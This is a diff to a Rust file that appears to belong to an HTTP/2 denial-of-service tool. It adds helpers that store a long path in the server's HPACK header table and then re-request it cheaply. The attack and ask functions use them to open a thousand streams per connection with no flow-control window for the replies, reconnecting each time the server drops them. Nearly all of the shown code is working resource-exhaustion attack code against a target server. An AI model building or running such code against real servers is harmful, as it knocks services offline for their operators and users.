@@ -20,6 +20,25 @@ fn path() -> String {
     format!("/{}", "\"".repeat(3_900))
 }
 
+/// A GET whose path goes into the peer's table of headers, for [`get_again`].
+fn get_and_keep(stream: u32, path: &str) -> Vec<u8> {
+    let mut block = vec![0x82, 0x87];
+    frames::literal(1, "localhost", &mut block);
+    // The literal of a name that has an index, to be kept.
+    frames::integer(0x40, 6, 4, &mut block);
+    frames::integer(0, 7, path.len(), &mut block);
+    block.extend(path.as_bytes());
+    frames::frame(frames::HEADERS, 5, stream, &block)
+}
+
+/// A GET of the path that was kept last, in a few bytes.
+fn get_again(stream: u32) -> Vec<u8> {
+    // What is kept is counted from 62 on.
+    let mut block = vec![0x82, 0x87, 0x80 | 62];
+    frames::literal(1, "localhost", &mut block);
+    frames::frame(frames::HEADERS, 5, stream, &block)
+}
+
 /// Asks for a thousand answers on each connection without room for a byte of them. Who is thrown
 /// out comes again.
 async fn attack(target: Target) {
@@ -34,8 +53,8 @@ async fn attack(target: Target) {
 
 async fn ask(connection: &mut Frames) -> std::io::Result<()> {
     // The path is sent once: 20 KB ask for a thousand answers of 4 KB and more.
-    let mut many = frames::get_and_keep(1, &path());
-    many.extend((1..STREAMS).flat_map(|number| frames::get_again(2 * number + 1)));
+    let mut many = get_and_keep(1, &path());
+    many.extend((1..STREAMS).flat_map(|number| get_again(2 * number + 1)));
     connection.write(&many).await?;
     let mut next = STREAMS;
     loop {
@@ -45,7 +64,7 @@ async fn ask(connection: &mut Frames) -> std::io::Result<()> {
         if renewal.await.is_ok() {
             return Ok(());
         }
-        connection.write(&frames::get_again(2 * next + 1)).await?;
+        connection.write(&get_again(2 * next + 1)).await?;
         next += 1;
     }
 }
